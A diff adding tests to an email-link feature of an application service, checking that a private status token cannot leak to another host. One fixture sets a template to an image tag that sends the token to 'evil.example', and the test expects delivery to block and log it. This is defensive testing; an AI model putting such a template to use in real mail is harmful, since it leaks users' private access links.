@@ -83,6 +83,44 @@ describe('the link to a page of one’s own', () => {
     expect(JSON.stringify(shown.data)).not.toContain(tokenIn(email));
   });
 
+  it('reaches no other host, whatever an earlier release let a template say', async () => {
+    const email = 'leaking@people.example';
+    await rows('alter table email_templates disable trigger check_template_secrets');
+    const [before] = await rows(
+      `select body from email_templates where key = 'application_received'`,
+    );
+    const body = '<p>Hi</p><img src="https://evil.example/p?{{ link }}">';
+    const change = `update email_templates set body = $1 where key = 'application_received'`;
+    await rows(change, [{ en: body, sv: body }]);
+    await server.invoke('apply', applicationForm({ email, phone: undefined }));
+    const link = await linkSentTo(email);
+    await rows(change, [before.body]);
+    await rows('alter table email_templates enable trigger check_template_secrets');
+    expect(link).toMatch(/^https:\/\/alpaca\.example\/status\/[\w-]{43}$/);
+    expect(mailServer.to(email)[0]?.html).not.toContain('evil');
+    expect(await newest(email)).toMatchObject({ last_error: expect.stringContaining('leak') });
+  });
+
+  it('stays masked inside a URL that staff typed', async () => {
+    const { email, id } = await applied();
+    const [link] = await rows('select id from applications where person_id = $1', [id]);
+    await enqueueMail(server.database.query, {
+      template: 'application_message',
+      to: email,
+      language: 'en',
+      personId: id,
+      applicationId: link.id,
+      subject: 'Hello',
+      text: 'Open https://evil.example/?https://alpaca.example/status/•••• now',
+      variables: { link: personLink(siteUrl, { applicationId: link.id }) },
+    });
+    await linkSentTo(email);
+    const sent = mailServer.to(email).at(-1);
+    expect(`${sent?.html}${sent?.text}`).toContain(
+      'evil.example/?https://alpaca.example/status/••••',
+    );
+  });
+
   it('is not there before the mail is sent', async () => {
     const email = 'waiting@people.example';
     await server.invoke('apply', applicationForm({ email, phone: undefined }));
@@ -128,6 +166,7 @@ describe('the link to a page of one’s own', () => {
 
   it('is sent with the built-in text where a template changes it by a filter', async () => {
     const [{ body }] = await rows(`select body from email_templates where key = 'person_link'`);
+    await rows('alter table email_templates disable trigger check_template_secrets');
     await rows(
       `update email_templates set body = jsonb_build_object('en', '<p>{{ link | upcase }}</p>', 'sv', body ->> 'sv')
        where key = 'person_link'`,
@@ -143,8 +182,11 @@ describe('the link to a page of one’s own', () => {
     const mailId = (await server.database.transaction((query) => enqueueMail(query, mail))) ?? '';
     expect(await deliverMail(mailer, mailId)).toBe('sent');
     expect(await show(tokenIn(email))).toMatchObject({ status: 200 });
-    expect((await newest(email)).last_error).toBe('template: a filter changes a link or a code');
+    expect((await newest(email)).last_error).toBe(
+      'template: a link or a code is changed or could leak',
+    );
     await rows(`update email_templates set body = $1 where key = 'person_link'`, [body]);
+    await rows('alter table email_templates enable trigger check_template_secrets');
   });
 });
 
